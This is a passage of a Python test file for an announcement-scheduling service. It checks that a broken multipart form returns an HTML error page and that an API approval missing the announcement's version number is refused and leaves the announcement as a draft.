    editor = logged_in(live_scheduler, "editor")  # the admin's forms: a page in words, not the API's JSON
    r = editor.post("/admin/announcements/new", data=b"--x\r\nbroken", headers={"Content-Type": "multipart/form-data"})
    assert r.status_code == 400 and "text/html" in r.headers["content-type"], r.headers
    assert "Formulir sampai dalam keadaan rusak" in r.text


def test_an_api_approval_must_name_the_version_it_read(live_scheduler: Any) -> None:
    """The sixth review: the `version` check ran only when a client sent one, so a script approving without it
    aired an edit the author made after the approver had read the announcement."""
    editor = ("editor", live_scheduler.service.demo_accounts.editor_password)
    admin = ("admin", live_scheduler.service.demo_accounts.admin_password)
    created = _api(live_scheduler, "POST", "/announcements", editor, json={
        "title": "Pemberitahuan biasa", "body": "Kantor tutup pukul 15.00.", "targets": {"displays": ["desa-antibar"]}})
    ann = created.json()["announcement"]
    url = f"{live_scheduler.url}/api/v1/admin/announcements/{ann['id']}/approve"
    for body in ({}, {"json": {}}, {"json": {"version": None}}):
        refused = requests.post(url, auth=admin, timeout=TIMEOUT_S, **body)  # type: ignore[arg-type]
        assert refused.status_code == 400 and refused.json()["field"] == "version", refused.text
        assert "GET the announcement" in refused.json()["error"]
    assert _api(live_scheduler, "GET", f"/announcements/{ann['id']}", admin).json()["announcement"]["status"] == "draft"
    approved = _api(live_scheduler, "POST", f"/announcements/{ann['id']}/approve", admin,
                    json={"version": ann["version"]})  # fmt: skip
    assert approved.status_code == 200 and approved.json()["announcement"]["status"] == "approved"
